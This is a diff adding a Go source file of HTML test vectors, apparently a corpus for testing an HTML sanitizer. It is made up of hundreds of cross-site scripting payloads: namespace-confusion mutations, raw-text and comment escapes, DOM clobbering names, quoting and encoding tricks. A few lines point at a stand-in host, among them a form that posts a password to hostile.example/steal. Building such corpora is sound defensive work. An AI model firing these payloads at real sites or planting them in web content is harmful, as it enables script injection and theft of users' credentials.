@@ -1,0 +1,432 @@
+package vectors
+
+import (
+	"fmt"
+	"strings"
+)
+
+func namespaces() []item {
+	return plain(
+		`<svg></p><style><a id="</style><img src=x onerror=pwn()>">`,
+		`<svg><p><style><a title="</style><img src=x onerror=pwn()>">`,
+		`<math></p><style><a id="</style><img src=x onerror=pwn()>">`,
+		`<svg><style><img src=x onerror=pwn()></style></svg>`,
+		`<svg><style><!--</style><img src=x onerror=pwn()>--></svg>`,
+		`<svg><title><style><img src=x onerror=pwn()></style></title></svg>`,
+		`<svg><desc><img src=x onerror=pwn()></desc></svg>`,
+		`<svg><desc><style></desc><img src=x onerror=pwn()></style></svg>`,
+		`<svg><foreignObject><p><img src=x onerror=pwn()></p></foreignObject></svg>`,
+		`<svg><foreignobject><iframe onload=pwn()></iframe></foreignobject></svg>`,
+		`<svg><foreignObject><math><mi><img src=x onerror=pwn()></mi></math></foreignObject></svg>`,
+		`<math><mtext><img src=x onerror=pwn()></mtext></math>`,
+		`<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>`,
+		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">`,
+		`<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=pwn()&gt;">`,
+		`<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=x onerror=pwn()>">`,
+		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>`,
+		`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=pwn()>">`,
+		`<math><mtext><malignmark><style><img src=x onerror=pwn()></style></malignmark></mtext></math>`,
+		`<math><mi><malignmark><b><style></math><img src=x onerror=pwn()>`,
+		`<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>`,
+		`<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwn()></style></annotation-xml></math>`,
+		`<math><annotation-xml encoding="application/xhtml+xml"><script>pwn()</script></annotation-xml></math>`,
+		`<math><annotation-xml><style><img src=x onerror=pwn()></style></annotation-xml></math>`,
+		`<math><annotation-xml><svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg></annotation-xml></math>`,
+		`<math><semantics><mi>x</mi><annotation encoding="text/html"><img src=x onerror=pwn()></annotation></semantics></math>`,
+		`<math><maction actiontype=toggle><mtext onclick=pwn()>a</mtext><mtext>b</mtext></maction></math>`,
+		`<math onclick=pwn()><mi onmouseover=pwn()>x</mi></math>`,
+		`<math><mi style="background:url(https://hostile.example/c)">x</mi></math>`,
+		`<math><a href="javascript:pwn()"><mi>x</mi></a></math>`,
+		`<math><mtext><a href="javascript:pwn()">x</a></mtext></math>`,
+		`<math><mtext></mtext><script>pwn()</script></math>`,
+		`<math><script>pwn()</script></math>`,
+		`<math><img src=x onerror=pwn()>`,
+		`<math><xss href="javascript:pwn()">x</xss></math>`,
+		`<math><ms><b></math><img src=x onerror=pwn()></b></ms>`,
+		`<math><mrow><table><tr><td><style></math><img src=x onerror=pwn()></style>`,
+		`<svg><svg><b><style></svg><img src=x onerror=pwn()></style></b>`,
+		`<svg><b></b><img src=x onerror=pwn()>`,
+		`<svg></svg><img src=x onerror=pwn()>`,
+		`<svg><p></svg><img src=x onerror=pwn()>`,
+		`<svg><font color=red><img src=x onerror=pwn()></font></svg>`,
+		`<svg><font face=x size=2><style><img src=x onerror=pwn()></style></svg>`,
+		`<svg><br><style><img src=x onerror=pwn()></style></svg>`,
+		`<svg></br><style><img src=x onerror=pwn()></style></svg>`,
+		`<svg><![CDATA[<img src=x onerror=pwn()>]]></svg>`,
+		`<svg><![CDATA[><img src=x onerror=pwn()>]]>`,
+		`<svg><p><![CDATA[<img src=x onerror=pwn()>]]></p></svg>`,
+		`<svg><script>&#112;wn()</script></svg>`,
+		`<svg><script>pwn&lpar;)</script></svg>`,
+		`<svg><script/href=data:,pwn()></script></svg>`,
+		`<svg><a><text id=x>t</text></a><animate href=#x attributeName=onclick values="pwn()"></svg>`,
+		`<svg><handler type="text/javascript" ev:event=load>pwn()</handler></svg>`,
+		`<svg><listener event=load handler="javascript:pwn()"></svg>`,
+		`<svg><tref xlink:href="data:text/xml,<x>pwn()</x>"></tref></svg>`,
+		`<svg><feImage href="https://hostile.example/f.svg"></feImage></svg>`,
+		`<svg><iframe src="javascript:pwn()"></iframe></svg>`,
+		`<svg><template><img src=x onerror=pwn()></template></svg>`,
+		`<svg><noscript><img src=x onerror=pwn()></noscript></svg>`,
+		`<svg><title><![CDATA[</title><img src=x onerror=pwn()>]]></title></svg>`,
+		`<svg><xmp><p title="</xmp><img src=x onerror=pwn()>"></svg>`,
+		`<svg><textarea><img src=x onerror=pwn()></textarea></svg>`,
+		`<svg><plaintext><img src=x onerror=pwn()></svg>`,
+		`<svg><select><img src=x onerror=pwn()></select></svg>`,
+		`<svg><table><tr><td><img src=x onerror=pwn()></table></svg>`,
+		`<svg><image><title><img src=x onerror=pwn()></title></image></svg>`,
+		`<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>pwn()</h:script></svg>`,
+		`<svg/><p><math></svg><img src=x onerror=pwn()></math>`,
+		`<div><math><mtext><svg><foreignObject><math><mtext><svg><desc><img src=x onerror=pwn()>`,
+		`<b><svg><desc></b><p><style><a title="</style><img src=x onerror=pwn()>">`,
+		`<table><svg><mtext><style><a title="</style><img src=x onerror=pwn()>"></table>`,
+	)
+}
+
+func rawText() []item {
+	// Elements whose content is text to one parser and markup to another.
+	elements := []string{"noscript", "style", "template", "xmp", "plaintext", "textarea", "title", "noembed", "noframes",
+		"iframe", "listing", "comment", "script", "object", "select", "option"}
+	var items []item
+	for _, e := range elements {
+		items = append(items,
+			item{e + " content", fmt.Sprintf(`<%s><img src=x onerror=pwn()></%[1]s>`, e)},
+			item{e + " end in attribute", fmt.Sprintf(`<%s><p title="</%[1]s><img src=x onerror=pwn()>"></p></%[1]s>`, e)},
+			item{e + " end in comment", fmt.Sprintf(`<%s><!-- </%[1]s><img src=x onerror=pwn()> --></%[1]s>`, e)},
+			item{e + " entities", fmt.Sprintf(`<%s>&lt;/%[1]s&gt;&lt;img src=x onerror=pwn()&gt;</%[1]s>`, e)},
+		)
+	}
+	return append(items, plain(
+		`<noscript><style></noscript><img src=x onerror=pwn()></style>`,
+		`<noscript><p title="</noscript><img src=x onerror=pwn()>">`,
+		`<noscript><!--</noscript><img src=x onerror=pwn()>--></noscript>`,
+		`<noscript><noscript></noscript><img src=x onerror=pwn()></noscript>`,
+		`<noscript><a title="</noscript><script>pwn()</script>"></a></noscript>`,
+		`<style><style></style><img src=x onerror=pwn()></style>`,
+		`<style><a title="</style><img src=x onerror=pwn()>">`,
+		`<template><style></template><img src=x onerror=pwn()></style></template>`,
+		`<template><template></template><img src=x onerror=pwn()></template></template>`,
+		`<template></template><img src=x onerror=pwn()>`,
+		`</template><img src=x onerror=pwn()>`,
+		`<textarea><title></textarea><img src=x onerror=pwn()></title>`,
+		`<title><textarea></title><img src=x onerror=pwn()></textarea>`,
+		`<xmp><svg><style><a title="</xmp><img src=x onerror=pwn()>">`,
+		`<pre><xmp></pre><img src=x onerror=pwn()></xmp>`,
+		`<plaintext></plaintext><img src=x onerror=pwn()>`,
+		`<p>a<plaintext><script>pwn()</script>`,
+		`<listing>&lt;img src=x onerror=pwn()&gt;</listing>`,
+		`<pre>&lt;img src=x onerror=pwn()&gt;</pre>`,
+		`<code>&lt;script&gt;pwn()&lt;/script&gt;</code>`,
+		`<p>&lt;img src=x onerror=pwn()&gt;</p>`,
+		`<p>&amp;lt;img src=x onerror=pwn()&amp;gt;</p>`,
+		`<img alt="&lt;img src=x onerror=pwn()&gt;" src="https://pictures.example/a.jpg">`,
+		`<img title='"><img src=x onerror=pwn()>' src="https://pictures.example/a.jpg">`,
+		"<img alt=\"`><img src=x onerror=pwn()>\" src='https://pictures.example/a.jpg'>",
+		"<img alt=``onerror=pwn() src=x>",
+		`<a title="</a><img src=x onerror=pwn()>" href="https://good.example/">x</a>`,
+		`<iframe srcdoc="</iframe><img src=x onerror=pwn()>"></iframe>`,
+		`<noembed><p title="</noembed><script>pwn()</script>"></noembed>`,
+		`<script><!--<script></script><img src=x onerror=pwn()>--></script>`,
+		`<script>/*</script><img src=x onerror=pwn()>*/</script>`,
+		`<p title="--><img src=x onerror=pwn()>">x</p>`,
+		`<p title="]]><img src=x onerror=pwn()>">x</p>`,
+		`<style>{}*{xss:expression(pwn())}</style></style/><img src=x onerror=pwn()>`,
+		`<object><p title="</object><img src=x onerror=pwn()>"></object>`,
+		`</noscript></object></iframe></title><img src=x onerror=pwn()>`,
+		`<a javascript><img onerror=pwn() src=x></a>tail`,
+	)...)
+}
+
+func fosterParenting() []item {
+	return plain(
+		`<table><img src=x onerror=pwn()></table>`,
+		`<table><a href="javascript:pwn()">x</a></table>`,
+		`<table><tr><img src=x onerror=pwn()><td>x</td></tr></table>`,
+		`<table><tbody><script>pwn()</script></tbody></table>`,
+		`<table><style><img src=x onerror=pwn()></style></table>`,
+		`<table><colgroup><img src=x onerror=pwn()></colgroup></table>`,
+		`<table><caption><img src=x onerror=pwn()></caption></table>`,
+		`<table><caption><table><img src=x onerror=pwn()></table></caption></table>`,
+		`<table><td><table><td><img src=x onerror=pwn()>`,
+		`<table><form><input autofocus onfocus=pwn()></form></table>`,
+		`<table><input type=hidden onfocus=pwn()><input type=text autofocus onfocus=pwn()></table>`,
+		`<a><table><a href="javascript:pwn()">x</a></table></a>`,
+		`<a href="javascript:pwn()"><table><tr><td><a href="https://good.example/">x</table></a>`,
+		`<b><table><td></b><i><img src=x onerror=pwn()></i></table>`,
+		`<p><table><p><img src=x onerror=pwn()></table>`,
+		`<table><svg><img src=x onerror=pwn()></svg></table>`,
+		`<table><math><mtext><img src=x onerror=pwn()></math></table>`,
+		`<table><select><img src=x onerror=pwn()></select></table>`,
+		`<table><template><tr><img src=x onerror=pwn()></template></table>`,
+		`<table onclick=pwn()><tr onclick=pwn()><td onclick=pwn()>x</td></tr></table>`,
+		`<table><tr><td>x</td></tr>text<iframe onload=pwn()></iframe></table>`,
+		`<nobr><nobr><table><nobr><img src=x onerror=pwn()></table>`,
+		`<table><frameset><img src=x onerror=pwn()></frameset></table>`,
+		`</table><img src=x onerror=pwn()></tr></td>`,
+	)
+}
+
+func selects() []item {
+	return plain(
+		`<select><option><img src=x onerror=pwn()></option></select>`,
+		`<select><option><style></option></select><img src=x onerror=pwn()></style>`,
+		`<select><style></select><img src=x onerror=pwn()></style>`,
+		`<select><script>pwn()</script></select>`,
+		`<select><iframe></select><img src=x onerror=pwn()></iframe>`,
+		`<select><template><style></select><img src=x onerror=pwn()></style>`,
+		`<select><noscript><p title="</noscript><img src=x onerror=pwn()>"></select>`,
+		`<select><svg><style><img src=x onerror=pwn()></style></svg></select>`,
+		`<select><math><mtext><img src=x onerror=pwn()></mtext></math></select>`,
+		`<select><keygen><img src=x onerror=pwn()></select>`,
+		`<select><textarea></select><img src=x onerror=pwn()></textarea>`,
+		`<select><input autofocus onfocus=pwn()></select>`,
+		`<select><select><img src=x onerror=pwn()></select>`,
+		`<select><button><selectedcontent><img src=x onerror=pwn()></selectedcontent></button></select>`,
+		`<select><optgroup label="<img src=x onerror=pwn()>"></optgroup></select>`,
+		`<select onchange=pwn() onclick=pwn()><option onclick=pwn()>x</option></select>`,
+		`<datalist><img src=x onerror=pwn()></datalist>`,
+		`<option><style></option></select><b><img src=x onerror=pwn()></style></option>`,
+		`<table><select><table><img src=x onerror=pwn()></table></select></table>`,
+	)
+}
+
+func forms() []item {
+	return plain(
+		`<form action="javascript:pwn()"><button>b</button></form>`,
+		`<form id=f action="javascript:pwn()"></form><button form=f>b</button>`,
+		`<form id=f></form><button form=f formaction="javascript:pwn()">b</button>`,
+		`<form><input type=image src=x formaction="javascript:pwn()"></form>`,
+		`<form onsubmit=pwn()><button>b</button></form>`,
+		`<form onreset=pwn()><input type=reset></form>`,
+		`<form onformdata=pwn()><button>b</button></form>`,
+		`<form oninput=pwn()><input value=x></form>`,
+		`<form><input required oninvalid=pwn()><button>b</button></form>`,
+		`<form action="https://hostile.example/steal"><input name=password type=password><button>b</button></form>`,
+		`<form><div></form><form action="javascript:pwn()"><button>b</button></form></div>`,
+		`<form><form action="javascript:pwn()"><button>b</button></form></form>`,
+		`<div><form></div><form action="javascript:pwn()"><button>b</button></form>`,
+		`<form><table></form><form action="javascript:pwn()"><button>b</button></table></form>`,
+		`<button type=button popovertarget=p onclick=pwn()>b</button><div id=p popover onbeforetoggle=pwn()>x</div>`,
+		`<button commandfor=d command=show-modal>b</button><dialog id=d onbeforetoggle=pwn()>x</dialog>`,
+		`<input type=button onclick=pwn() value=b>`,
+		`<label for=i onclick=pwn()>l</label><input id=i onfocus=pwn()>`,
+		`<output onclick=pwn()>o</output><meter onclick=pwn()></meter><progress onclick=pwn()></progress>`,
+		`<keygen autofocus onfocus=pwn()>`,
+		`<isindex action="javascript:pwn()" type=image>`,
+		`<fieldset onclick=pwn()><legend onclick=pwn()>l</legend></fieldset>`,
+	)
+}
+
+func depth() []item {
+	rep := strings.Repeat
+	img := `<img src=x onerror=pwn()>`
+	items := []item{}
+	for _, e := range []string{"div", "b", "font", "span", "blockquote", "section", "zkspan"} {
+		items = append(items, item{e + " 600", rep("<"+e+">", 600) + img + rep("</"+e+">", 600)})
+	}
+	var fonts strings.Builder
+	for i := range 80 {
+		fmt.Fprintf(&fonts, "<p><font color=c%d>", i)
+	}
+	return append(items,
+		item{"unclosed fonts", rep("<div>", 450) + fonts.String() + img},
+		item{"lists", rep("<ul><li>", 400) + img},
+		item{"tables", rep("<table><tr><td>", 300) + img},
+		item{"svg", rep("<svg>", 600) + img},
+		item{"math", rep("<math><mtext>", 400) + img},
+		item{"nested links", rep(`<a href="javascript:pwn()">`, 600) + "x"},
+		item{"style at the limit", rep("<div>", 509) + "<svg><style>" + img},
+		item{"title at the limit", rep("<div>", 505) + `<math><mi><b><style></math>` + img},
+		item{"form and svg at the limit", rep("<div>", 506) + `<form><svg></p><style><a title="</style>` + img + `">`},
+		item{"table at the limit", rep("<div>", 508) + `<table><caption><svg><title><table><caption></svg><style><a title="</style>` + img + `">`},
+		item{"select", rep("<a><x><select>", 700) + img},
+		item{"templates", rep("<template>", 600) + img},
+		item{"handlers all the way", rep("<div onclick=pwn()>", 600) + "x"},
+		item{"end tags only", rep("</div>", 2000) + img},
+	)
+}
+
+// clobbered are names that code reads from document, window, or a form.
+var clobbered = strings.Fields(`cookie body head forms images links scripts domain location URL title
+	getElementById getElementsByTagName getElementsByName querySelector querySelectorAll createElement write writeln open
+	close implementation defaultView documentElement currentScript activeElement readyState referrer adoptNode
+	importNode execCommand hasChildNodes firstChild childNodes parentNode ownerDocument addEventListener alert
+	top parent self name opener frames event history navigator localStorage fetch status closed length
+	pwnme`)
+
+func clobbering() []item {
+	var items []item
+	shapes := []string{
+		`<img name=%s src="https://pictures.example/a.jpg" alt="a">`,
+		`<img id=%s name=%[1]s src="https://pictures.example/a.jpg" alt="a">`,
+		`<form name=%s><input name=%[1]s></form>`,
+		`<embed name=%s><object id=%[1]s></object>`,
+		`<iframe name=%s srcdoc=""></iframe>`,
+		`<h2 id=%s>heading</h2><p><a href="#%[1]s">up</a></p>`,
+	}
+	for i, name := range clobbered {
+		items = append(items, item{name: name, html: fmt.Sprintf(shapes[i%len(shapes)], name)})
+	}
+	return append(items, plain(
+		`<form id=pwnme><input id=attributes name=attributes><input name=nodeName></form>`,
+		`<form id=pwnme><button name=parentNode>b</button><img name=childNodes src=x></form>`,
+		`<a id=pwnme></a><a id=pwnme name=x href="https://hostile.example/">x</a>`,
+		`<a id=pwnme href="cid:pwn">x</a><p><a href="#pwnme">y</a></p>`,
+		`<iframe name=pwnme srcdoc="<a id=x href=https://hostile.example/></a>"></iframe>`,
+		`<img id=pwnme><img id=pwnme name=y>`,
+		`<form id=document><input name=cookie></form>`,
+		`<p id=__proto__>x</p><p><a href="#__proto__">y</a></p>`,
+		`<p id=constructor>x</p><a href="#constructor">y</a>`,
+		`<p id=hasOwnProperty>x</p><a href="#hasOwnProperty">y</a>`,
+		`<sup id=cookie><a href="#body">1</a></sup><ol><li id=body>note <a href="#cookie">up</a></li></ol>`,
+		`<a name=cookie></a><p><a href="#cookie">up</a></p>`,
+		`<a name=getElementById></a><a href="#getElementById">up</a>`,
+		`<object name=body data="https://pictures.example/a.jpg"></object>`,
+		`<map name=images><area href="https://good.example/"></map>`,
+		`<meta name=referrer content=unsafe-url><meta id=pwnme>`,
+		`<table id=pwnme><tr><th id=cookie>a</th></tr><tr><td headers=cookie>b</td></tr></table>`,
+		`<label for=body id=pwnme>x</label><output name=cookie for=body></output>`,
+		`<slot name=pwnme id=pwnme></slot><p slot=pwnme is=pwn-me>x</p>`,
+	)...)
+}
+
+func comments() []item {
+	return plain(
+		`<!--><img src=x onerror=pwn()>-->`,
+		`<!---><img src=x onerror=pwn()>-->`,
+		`<!----><img src=x onerror=pwn()>-->`,
+		`<!-- --!><img src=x onerror=pwn()>-->`,
+		`<!-- <!-- --><img src=x onerror=pwn()>-->`,
+		`<!--[if gte IE 4]><script>pwn()</script><![endif]-->`,
+		`<![if IE]><img src=x onerror=pwn()><![endif]>`,
+		`<!-- a -- > <img src=x onerror=pwn()>`,
+		`<!--<img src="--><img src=x onerror=pwn()>">`,
+		`<!-->--><img src=x onerror=pwn()>`,
+		`<!x><img src=x onerror=pwn()>`,
+		`<!x <img src=x onerror=pwn()>>`,
+		`<!DOCTYPE x[<!ENTITY e "<img src=x onerror=pwn()>">]>&e;<img src=x onerror=pwn()>`,
+		`<!ELEMENT x><script>pwn()</script>`,
+		`<?xml version="1.0"?><img src=x onerror=pwn()>`,
+		`<?php echo "<img src=x onerror=pwn()>" ?>`,
+		`<? foo="><script>pwn()</script>">`,
+		`<! foo="><script>pwn()</script>">`,
+		`</ foo="><script>pwn()</script>">`,
+		`<% foo="%><script>pwn()</script>">`,
+		`</><img src=x onerror=pwn()>`,
+		`</1><img src=x onerror=pwn()>`,
+		`<![CDATA[<img src=x onerror=pwn()>]]>`,
+		`<![CDATA[><img src=x onerror=pwn()>]]>`,
+		`<!-- <p> --!></p><script>pwn()</script>`,
+		`<!--<!--><script>pwn()</script>-->`,
+		"<!-\x00-><img src=x onerror=pwn()>-->",
+		`<comment><img src="</comment><img src=x onerror=pwn()>"></comment>`,
+		`<!DOCTYPE html SYSTEM "javascript:pwn()"><p>x`,
+		`<!-- x`+"\n"+`><img src=x onerror=pwn()>`,
+	)
+}
+
+func quoting() []item {
+	return plain(
+		`<img src=x onerror=pwn()`,
+		`<img src=x onerror=pwn() `,
+		`<img src=x onerror=pwn()//`,
+		`<img src=x onerror=pwn()<`,
+		`<img src="x" onerror="pwn()"`,
+		`<img """><img src=x onerror=pwn()>">`,
+		`<img '''><script>pwn()</script>'>`,
+		"<img src=`x`onerror=pwn()>",
+		"<img src=`javascript:pwn()`>",
+		"<a href=`javascript:pwn()`>x</a>",
+		`<img src="x"onerror="pwn()">`,
+		`<img src='x'onerror='pwn()'>`,
+		`<img src=x"onerror=pwn() onerror=pwn()>`,
+		`<img/ /src=x/ /onerror=pwn()/ />`,
+		`<img src=x a'="b" onerror=pwn()>`,
+		`<img src=x =onerror=1 onerror=pwn()>`,
+		`<img src=x "onerror=pwn() onerror=pwn()>`,
+		`<img src=x <onerror=pwn() onerror=pwn()>`,
+		`<img src=x a="b>c" onerror=pwn()>`,
+		`<img src=x a='b>c' onerror=pwn()>`,
+		`<img src=x a=b>c onerror=pwn()><img src=x onerror=pwn()>`,
+		`<img src=x title="a' onerror=1" onerror=pwn()>`,
+		`<img alt="<x" title="/><img src=x onerror=pwn()>">`,
+		`<p title=">">x</p><img title="'" src=x onerror='pwn()'>`,
+		`<x/onclick=pwn()>x</x>`,
+		`<x onclick="pwn()>x<x onmouseover="pwn()">`,
+		`<a href="https://good.example/" onclick="pwn()">x</a>`,
+		`<a href='https://good.example/"onclick=pwn()//'>x</a>`,
+		`<a href="https://good.example/&quot; onclick=&quot;pwn()">x</a>`,
+		`<a href="https://good.example/&#34;onclick=&#34;pwn()">x</a>`,
+		`<a title="&quot;onclick=pwn()&quot;" href="https://good.example/">x</a>`,
+		`<img alt="&quot; onerror=&quot;pwn()" src="https://pictures.example/a.jpg">`,
+		`<img alt='&apos; onerror=&apos;pwn()' src='https://pictures.example/a.jpg'>`,
+		`<img alt="a" src="https://pictures.example/&quot;onerror=&quot;pwn()">`,
+		`<img src="https://pictures.example/a.jpg?x=<script>pwn()</script>">`,
+		`<img src="https://pictures.example/a.jpg" width='1" onload="pwn()'>`,
+		`<td colspan='2" onclick="pwn()'>x</td><table><td rowspan='"><img src=x onerror=pwn()>'>x</table>`,
+		`<ol start='1"onclick="pwn()'><li value='"><script>pwn()</script>'>x</ol>`,
+		`<time datetime='"><img src=x onerror=pwn()>'>x</time>`,
+		`<p lang='"><img src=x onerror=pwn()>' dir='"onclick="pwn()'>x</p>`,
+		`<code class='language-"><img src=x onerror=pwn()>'>x</code>`,
+		`<pre class='language-go" onclick="pwn()'>x</pre>`,
+		`<h2 id='"><img src=x onerror=pwn()>'>x</h2><a href='#"><img src=x onerror=pwn()>'>y</a>`,
+		`<<img src=x onerror=pwn()>`,
+		`<a<img src=x onerror=pwn()>`,
+		`<p <img src=x onerror=pwn()>`,
+		`<p/<img src=x onerror=pwn()>`,
+		`<img src=x/onerror=pwn()>`,
+		`<iframe/onload=pwn()>`,
+		`<img src=x onerror = "pwn()">`,
+		"<img src=x onerror\n=\npwn()>",
+		`<img src=x onerror=	pwn()>`,
+		`<svg/onload=pwn()`,
+		`a<b onclick=pwn()>c`,
+		`1<2<img src=x onerror=pwn()>`,
+		`<br onclick=pwn() /><hr onclick=pwn() />text`,
+		`<p onclick=pwn()>unclosed <b onclick=pwn()>everything <i onclick=pwn()>here`,
+		`</p onclick=pwn()><br/onclick=pwn()>`,
+	)
+}
+
+func characters() []item {
+	return plain(
+		"<scr\x00ipt>pwn()</scr\x00ipt>",
+		"<\x00script>pwn()</script>",
+		"<script\x00>pwn()</script>",
+		"<img src=x onerror\x00=pwn()>",
+		"<img src=x on\x00error=pwn()>",
+		"<img\x00src=x onerror=pwn()>",
+		"<img src=x\x00onerror=pwn()>",
+		"\x00<img src=x onerror=pwn()>",
+		"<img src=x onerror=\"\x00pwn()\">",
+		"<img src=x \x0bonerror=pwn()>",
+		"<img \x0bsrc=x onerror=pwn()>",
+		"<img src=x\u00a0onerror=pwn()>",
+		"<img\u2003src=x onerror=pwn()>",
+		"<img src=x\u3000onerror=pwn() onerror=pwn()>",
+		"\xef\xbb\xbf<img src=x onerror=pwn()>",
+		"\xff\xfe<img src=x onerror=pwn()>",
+		"\xc0\xbcimg src=x onerror=pwn()\xc0\xbe<img src=x onerror=pwn()>",
+		"<p title=\"\xe5\"><img src=x onerror=pwn()>\">",
+		"<a href=\"\xe5javascript:pwn()\">x</a><a href=\"java\xffscript:pwn()\">x</a>",
+		"+ADw-script+AD4-pwn()+ADw-/script+AD4-<img src=x onerror=pwn()>",
+		"\x1b$@<script>pwn()</script>\x1b(J",
+		"～{<script>pwn()</script>～}",
+		"&#xD800;&#xDFFF;<img src=x onerror=pwn()>",
+		"&#0;&#x80;&#1114112;<img src=x onerror=pwn()>",
+		"&ltimg src=x onerror=pwn()&gt",
+		"&LT;script&GT;pwn()&LT;/script&GT;",
+		"&nvlt;img src=x onerror=pwn()&nvgt;",
+		"%3Cimg%20src%3Dx%20onerror%3Dpwn()%3E",
+		"\\u003cimg src=x onerror=pwn()\\u003e",
+		"＜img src=x onerror=pwn()＞",
+		"‹img src=x onerror=pwn()›<ſvg onload=pwn()>",
+		"<İmg src=x onerror=pwn()>",
+		"<img src=x oneſrror=pwn() oNerror=pwn()>",
+		"<K onclick=pwn()>K</K>",
+		"<p>\u202e<img src=x onerror=pwn()>\u202c</p>",
+		"<p>\u2028<script>pwn()</script>\u2029</p>",
+		"<img src=x onerror=pwn()\u2028>",
+		"<p>\x80\x81<img src=x onerror=pwn()></p>",
+		"<p>{{constructor.constructor('pwn()')()}}</p><img src=x onerror=pwn()>",
+		"<p>${pwn()}</p><p>&#123;&#123;pwn()&#125;&#125;</p><img src=x onerror=pwn()>",
+	)
+}
